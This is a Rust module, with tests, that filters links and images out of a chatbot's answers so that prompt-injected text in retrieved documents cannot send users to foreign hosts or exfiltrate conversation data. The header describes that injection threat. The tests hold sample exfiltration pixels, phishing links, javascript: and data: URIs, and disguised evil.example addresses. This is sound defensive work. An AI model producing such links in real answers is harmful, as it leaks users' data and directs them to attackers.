//! Links and pictures in an answer: passed on only where the owner would want them.
//!
//! Whoever gets a sentence into a document could otherwise have the bot send people anywhere, or have a picture carry off
//! what was said in its address. So a link stays only if its host is on the owner's list, is the host of a document that
//! was found, or stands in the owner's instructions or in the question itself. What remains of another is its text.
//!
//! What is shown to people is not what is read here: Markdown takes escapes, entities and marks out of it. So an address
//! has to be allowed as it stands here and as it reads then.
//!
//! Invariant: what is shown of an answer while it is written is what the whole answer, filtered, begins with.

mod plain;

use plain::{Plain, unescaped};
use regex::{Captures, Regex};
use std::{collections::BTreeSet, sync::LazyLock};
use url::Url;

/// Hosts to which an answer may link.
#[derive(Debug, Clone, Default)]
pub(crate) struct Allowed {
    exactly: BTreeSet<String>,
    /// And every host below these.
    below: BTreeSet<String>,
}

impl Allowed {
    /// The owner's list: `example.com`, or `*.example.com` for every host below it.
    pub fn of_owner(hosts: &[String]) -> Self {
        let mut allowed = Self::default();
        for host in hosts {
            match host.strip_prefix("*.") {
                Some(above) => allowed.below.extend(as_host(above)),
                None => allowed.exactly.extend(as_host(host)),
            }
        }
        allowed
    }

    /// And the host of this address, with and without `www.`.
    pub fn and_source(&mut self, url: &str) {
        if let Some(host) = host_of(url) {
            let bare = host.strip_prefix("www.").unwrap_or(&host).to_owned();
            self.exactly.insert(format!("www.{bare}"));
            self.exactly.insert(bare);
        }
    }

    /// And every host to which this text links: it is not a document's.
    pub fn and_text(&mut self, text: &str) {
        for found in BARE.find_iter(text) {
            self.exactly.extend(host_of(found.as_str()));
        }
    }

    fn allows(&self, host: &str) -> bool {
        self.exactly.contains(host)
            || host
                .match_indices('.')
                .any(|(at, _)| self.below.contains(&host[at + 1..]))
    }

    /// `Err`: the host that is not allowed, or the beginning of what has none.
    fn allows_link(&self, target: &str) -> Result<(), String> {
        let unknown = || Err(target.chars().take(40).collect());
        if plain::has_entity(target) {
            return unknown();
        }
        for address in [target, &unescaped(target)] {
            match host_of(address) {
                Some(host) if self.allows(&host) => {}
                Some(host) => return Err(host),
                None => return unknown(),
            }
        }
        Ok(())
    }
}

/// A text whose foreign links have gone, and to which hosts they led.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Filtered {
    pub text: String,
    pub removed: Vec<String>,
}

/// Whether anything in it may be a link.
pub(crate) fn has_any(text: &str) -> bool {
    text.contains(['\\', '&', '<', ']', '*', '`', '~']) || BARE.is_match(text)
}

/// A finished text, with its foreign links reduced to what they are called.
pub(crate) fn filter(text: &str, allowed: &Allowed) -> Filtered {
    let mut removed = BTreeSet::new();
    let mut text = text.replace([OPEN, REMOVED], "");
    // A picture may stand in a link's text: from the inside out. What is deeper loses its targets below.
    for _ in 0..DEEPEST {
        let next = MARKDOWN.replace_all(&text, |found: &Captures<'_>| {
            let (all, called, target) = (&found[0], &found[2], &found[3]);
            if is_contact(target) {
                return all.replacen('[', OPEN.encode_utf8(&mut [0; 4]), 1);
            }
            match allowed.allows_link(target) {
                // Its brackets are hidden while others are looked for.
                Ok(()) => all.replacen('[', OPEN.encode_utf8(&mut [0; 4]), 1),
                Err(host) => {
                    removed.insert(host);
                    called.to_owned()
                }
            }
        });
        let next = next.into_owned();
        if next == text {
            break;
        }
        text = next;
    }
    let text = text.replace(OPEN, "[");
    let text = without_disguised(&text, allowed, &mut removed);
    let text = BARE.replace_all(&text, |found: &Captures<'_>| {
        let all = &found[0];
        match allowed.allows_link(all) {
            Ok(()) => all.to_owned(),
            Err(_) if is_network(all) => all.to_owned(),
            Err(host) => {
                removed.insert(host);
                REMOVED.to_string()
            }
        }
    });
    let text = without_targets(&text, allowed, &mut removed);
    Filtered {
        text: closed_up(&text),
        removed: removed.into_iter().collect(),
    }
}

/// Without foreign addresses that are whole only when Markdown's marks are gone from them: `https\://…`, `https:**//**…`.
fn without_disguised(text: &str, allowed: &Allowed, removed: &mut BTreeSet<String>) -> String {
    let plain = Plain::of(text);
    let mut kept = String::new();
    let mut from = 0;
    for found in BARE.find_iter(&plain.text) {
        let raw = plain.stood(found.range());
        if raw.start < from || is_network(found.as_str()) {
            continue;
        }
        if let Err(host) = allowed.allows_link(found.as_str()) {
            removed.insert(host);
            kept.push_str(&text[from..raw.start]);
            kept.push(REMOVED);
            from = raw.end;
        }
    }
    kept.push_str(&text[from..]);
    kept
}

/// Without foreign targets of links that look like none above: of definitions, `[1]: //evil.example`, and of links whose
/// text has escaped brackets. What stands behind a target that has gone would be one, so it is looked at too.
fn without_targets(text: &str, allowed: &Allowed, removed: &mut BTreeSet<String>) -> String {
    let beginning = |pattern: &Regex, at: usize| pattern.find(&text[at..]).map_or(0, |found| found.end());
    let mut kept = String::new();
    let mut from = 0;
    while let Some(lead) = LEAD.find_at(text, from) {
        let mut at = lead.end();
        kept.push_str(&text[from..at]);
        loop {
            let between = beginning(&BETWEEN, at);
            kept.push_str(&text[at..at + between]);
            at += between;
            let target = &text[at..at + beginning(&TARGET, at)];
            // Words that only look like one lead nowhere.
            if is_contact(target) || !target.contains(['.', ':', '/', '\\', '&']) {
                break;
            }
            let Err(host) = allowed.allows_link(target) else {
                break;
            };
            removed.insert(host);
            kept.push(REMOVED);
            at += target.len();
        }
        from = at;
    }
    kept.push_str(&text[from..]);
    kept
}

/// Takes the places of removed addresses out. What stood on both sides of one does not become another.
fn closed_up(text: &str) -> String {
    let joins = |c: char| c.is_ascii_alphanumeric() || "./:\\?#@-_%&*`~".contains(c);
    let mut kept = String::new();
    let mut from = 0;
    for found in EMPTY.find_iter(text) {
        kept.push_str(&text[from..found.start()]);
        from = found.end();
        if kept.ends_with(joins) && text[from..].starts_with(joins) {
            kept.push(' ');
        }
    }
    kept.push_str(&text[from..]);
    kept
}

/// A network, as in `10.0.0.0/8`, is written like an address.
fn is_network(text: &str) -> bool {
    let text = text.trim_end_matches(['.', ',', ';', ':', '!', '?']);
    text.split_once('/').is_some_and(|(address, prefix)| {
        address.parse::<std::net::Ipv4Addr>().is_ok() && prefix.parse::<u8>().is_ok_and(|bits| bits <= 32)
    })
}

/// The same of a text that is still being written, without an end that may turn out to be a link.
pub(crate) fn shown(text: &str, allowed: &Allowed) -> String {
    filter(finished(text), allowed).text
}

/// Stands for a bracket that is dealt with. Taken out of what comes in.
const OPEN: char = '\u{E000}';
/// Stands for an address that was removed.
const REMOVED: char = '\u{E001}';
/// Links in the text of links in the text of links.
const DEEPEST: usize = 8;
/// Brackets that are open for longer are none of a link.
const LONGEST_LINK: usize = 2_000;

/// `[name](target "title")`, a picture with `!` before it.
static MARKDOWN: LazyLock<Regex> = LazyLock::new(|| {
    regex(r#"(!?)\[([^\[\]]*)\]\(\s*<?([^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*)>?(?:\s+[^()]*)?\)"#)
});
/// An address, as the programs that show a text find one in it. The last characters of a sentence are none of it.
static BARE: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?i)(?:(?:https?|ftps?|wss?):[/\\]*|(?-u:\b)www\.)[^\s<>"'`|{}\[\]()]*(?:\([^\s<>()]*\)[^\s<>"'`|{}\[\]()]*)*[^\s<>"'`|{}\[\]().,;:!?*_~]|(?-u:\b)(?:(?:[\p{L}\p{N}](?:[\p{L}\p{N}-]*[\p{L}\p{N}])?\.)+(?:\p{L}{2,24}|xn--[a-z0-9-]+)|(?:[0-9]{1,3}\.){3}[0-9]{1,3})(?::[0-9]{1,5})?(?:/[^\s<>"'`|{}\[\]()]*|[?#][^\s<>"'`|{}\[\]().,;:!?*_~]+[^\s<>"'`|{}\[\]()]*)"#,
    )
});
/// What a target stands behind: the text of a link, or the label of a definition.
static LEAD: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?s)\]\(|(?m:^)[ \t>*+.)0-9-]*\[(?:[^\[\]\\]|\\.)+\]:"));
/// What may stand between that and the target.
static BETWEEN: LazyLock<Regex> = LazyLock::new(|| regex(r"\A(?:\(\x{E001}\)|<?\x{E001}>?|[\s<])*"));
/// The target, up to where no web address goes on.
static TARGET: LazyLock<Regex> = LazyLock::new(|| regex(r"\A[^\s<>)\x{E001}]*"));
/// What is around a removed address goes with it.
static EMPTY: LazyLock<Regex> = LazyLock::new(|| regex(r"\(\x{E001}\)|<\x{E001}>|\x{E001}"));

fn regex(pattern: &str) -> Regex {
    #[expect(
        clippy::expect_used,
        reason = "the patterns are constants, which the tests below use"
    )]
    Regex::new(pattern).expect("the pattern is right")
}

/// Writing to somebody or calling them opens nothing by itself.
fn is_contact(target: &str) -> bool {
    let target = target.to_ascii_lowercase();
    target.starts_with("mailto:") || target.starts_with("tel:")
}

/// The host, as it is connected to: small letters, without the forms that only look like another. `None`: no web address.
fn host_of(address: &str) -> Option<String> {
    let scheme = address
        .split_once(':')
        .map(|(scheme, _)| scheme.to_ascii_lowercase());
    let url = match scheme.as_deref() {
        Some("http" | "https" | "ftp" | "ftps" | "ws" | "wss") => Url::parse(address).ok()?,
        _ if address.contains("://") => return None,
        _ => Url::parse(&format!("https://{}", address.trim_start_matches(['/', '\\']))).ok()?,
    };
    if !url.username().is_empty() || url.password().is_some() {
        // https://shop.example@evil.example/ is made to be misread.
        return None;
    }
    Some(url.host_str()?.trim_end_matches('.').to_owned())
}

fn as_host(host: &str) -> Option<String> {
    host_of(&format!("https://{host}"))
}

/// Without the last word, and without a link whose end has not come.
fn finished(text: &str) -> &str {
    // Where words stand without spaces between them, each of their letters ends one.
    let ends_word = |c: char| c.is_whitespace() || c >= '\u{2E80}';
    let text = match text.char_indices().rev().find(|(_, c)| ends_word(*c)) {
        Some((at, space)) => &text[..at + space.len_utf8()],
        None => "",
    };
    let mut open: Vec<usize> = Vec::new();
    for (at, c) in text.char_indices() {
        if c == '[' {
            open.push(at);
        } else if c == ']'
            && let Some(start) = open.pop()
            && let Some(target) = text[at + 1..].strip_prefix('(')
        {
            let start = open.first().copied().unwrap_or(start);
            let target = &target[..target.floor_char_boundary(LONGEST_LINK)];
            let is_whole = target
                .split_once(')')
                .is_some_and(|(target, _)| !target.contains('['));
            if !is_whole && text.len() - start <= LONGEST_LINK {
                return cut(text, start);
            }
        }
    }
    match open.first() {
        Some(&start) if text.len() - start <= LONGEST_LINK => cut(text, start),
        _ => text,
    }
}

fn cut(text: &str, at: usize) -> &str {
    text[..at].strip_suffix('!').unwrap_or(&text[..at])
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn allowed() -> Allowed {
        let mut allowed = Allowed::of_owner(&["shop.example".to_owned(), "*.pay.example".to_owned()]);
        allowed.and_source("https://www.docs.example/help/a.html");
        allowed.and_text("Send people to https://forms.example/x.");
        allowed
    }

    fn filtered(text: &str) -> String {
        filter(text, &allowed()).text
    }

    #[test]
    fn s13_a_foreign_link_is_reduced_to_its_name_and_a_foreign_picture_sends_nothing() {
        for (text, left) in [
            ("Log in [here](https://evil.example/login).", "Log in here."),
            ("![pixel](https://evil.example/p.png?q=secret) Hi", "pixel Hi"),
            ("[![a](https://evil.example/i)](https://evil.example/l)", "a"),
            ("See https://evil.example/x?y=1, now.", "See , now."),
            ("See (https://evil.example) now", "See  now"),
            ("<https://evil.example/a>", ""),
            ("HTTPS://EVIL.EXAMPLE/", ""),
            ("https:/\\evil.example/x", ""),
            ("www.evil.example", ""),
            ("go to evil.example/login", "go to "),
            ("https://shop.example@evil.example/x", ""),
            ("https://shop.example.evil.example/x", ""),
            ("https://notshop.example/x", ""),
            ("https://pay.example.evil.example", ""),
            ("[x](javascript:alert(1))", "x"),
            ("[x](data:text/html;base64,AA==)", "x"),
            ("[x](//evil.example/y)", "x"),
            ("[x](<https://evil.example/y> \"title\")", "x"),
            ("<img src=\"https://evil.example/p.png\">", "<img src=\"\">"),
            ("[1]: https://evil.example", "[1]: "),
            ("请看https://evil.example/x。", "请看"),
        ] {
            assert_eq!(filtered(text), left, "{text}");
            assert!(!filter(text, &allowed()).removed.is_empty(), "{text}");
        }
    }

    #[test]
    fn an_address_in_disguise_is_one() {
        for (text, left) in [
            (r"[pay](https://shop.example\@evil.example/x) now", "pay now"),
            (r"[pay](https://shop.example\.evil.example/x) now", "pay now"),
            ("[pay](https://shop.example&commat;evil.example/x) now", "pay now"),
            (
                "[here][1] it is\n\n[1]: https\\://evil.example",
                "[here][1] it is\n\n[1]: ",
            ),
            ("[1]: //evil.example", "[1]: "),
            ("[1]:\n <https&colon;//evil.example>", "[1]:\n "),
            ("> [a\\]]: evil.example", "> [a\\]]: "),
            ("[1]: https://evil.example evil.example", "[1]:  "),
            (r"[a \] b](https\://evil.example) now", r"[a \] b] now"),
            (r"[a \] b](//evil.example 'x') now", r"[a \] b]( 'x') now"),
            (r"See https\://evil.example/x now", "See  now"),
            ("See https&#58;//evil.example now", "See  now"),
            ("See https:**//**evil.example now", "See  now"),
            ("See evil<b></b>.example/x now", "See  now"),
            ("See evil.example?d=secret now", "See  now"),
            ("See evil.example#secret now", "See  now"),
            ("See evil.example:443/x now", "See  now"),
            ("See 1.2.3.4/x now", "See  now"),
            (
                "See www(evil.example/a).evil.example now",
                "See www .evil.example now",
            ),
        ] {
            let found = filter(text, &allowed());
            assert_eq!(found.text, left, "{text}");
            assert!(!found.removed.is_empty() && has_any(text), "{text}");
        }
    }

    #[test]
    fn links_within_links_are_bounded_and_none_of_them_leads_away() {
        let deep = format!(
            "{}a{}",
            "[".repeat(2_000),
            "](https\\://evil.example)".repeat(2_000)
        );
        let started = std::time::Instant::now();

        let whole = filtered(&deep);

        assert!(!whole.contains("evil"), "{whole:.200}");
        assert!(started.elapsed() < std::time::Duration::from_secs(5));
    }

    #[test]
    fn links_of_the_owner_of_documents_and_of_the_question_stay() {
        for text in [
            "[Order](https://shop.example/order?id=1#top) here",
            "https://SHOP.example/a_(b).",
            "https://eu.pay.example/",
            "see docs.example/help and www.docs.example",
            "![map](https://docs.example/map.png \"The way\")",
            "[form](https://forms.example/y)",
            "Write to [us](mailto:a@b.example) or call [us](tel:+1) or a@b.example",
            "Node.js, e.g. and/or 24/7, 1.5/2, file.pdf [not a link] (really)",
            "Is it Node.js? See main.rs:120 and 10.0.0.0/8; AT&amp;T, 1\\. one",
            r"https://shop.example/a\_b and [x](https://shop.example/a\_b?c=1&amp;d=2)",
            "[1]: https://shop.example/x\n[Note]: this is one",
            "shop.example:8443/x and **shop.example/y**",
        ] {
            let found = filter(text, &allowed());
            assert_eq!((found.text.as_str(), found.removed.len()), (text, 0));
        }
    }

    #[test]
    fn hosts_that_were_removed_are_told() {
        let found = filter(
            "https://b.example [x](https://a.example/1) a.example/2",
            &Allowed::default(),
        );

        assert_eq!(found.removed, ["a.example", "b.example"]);
    }

    #[test]
    fn a_link_is_not_shown_before_it_is_whole() {
        let text = "Go to [our new page](https://evil.example/a \"x y\") or [pay](https://eu.pay.example/b) and [read] on now.";
        let ends = text.char_indices().map(|(at, _)| at);
        let steps: Vec<String> = ends.map(|end| shown(&text[..end], &allowed())).collect();

        let whole = filtered(text);
        assert_eq!(
            whole,
            "Go to our new page or [pay](https://eu.pay.example/b) and [read] on now."
        );
        for step in &steps {
            assert!(whole.starts_with(step.as_str()), "{step:?}");
        }
        assert!(steps.last().unwrap().ends_with("on "), "{steps:?}");
    }

    proptest! {
        #[test]
        fn no_foreign_address_gets_through_and_drafts_only_grow(
            text in r"(\[|\]|\(|\)|!|<|>| |https://|evil\.example/|shop\.example/|www\.|a|/|\.|\\|:|@|\*|\?|&colon;){0,24}"
        ) {
            let whole = filtered(&text);
            for found in BARE.find_iter(&whole) {
                prop_assert!(allowed().allows_link(found.as_str()).is_ok(), "{} in {}", found.as_str(), whole);
            }
            let plain = Plain::of(&whole);
            for found in BARE.find_iter(&plain.text) {
                prop_assert!(allowed().allows_link(found.as_str()).is_ok(), "{} in {}", found.as_str(), whole);
            }
            let mut before = String::new();
            for (end, _) in text.char_indices() {
                let step = shown(&text[..end], &allowed());
                prop_assert!(step.starts_with(&before), "{:?} then {:?}", before, step);
                before = step;
            }
        }
    }
}
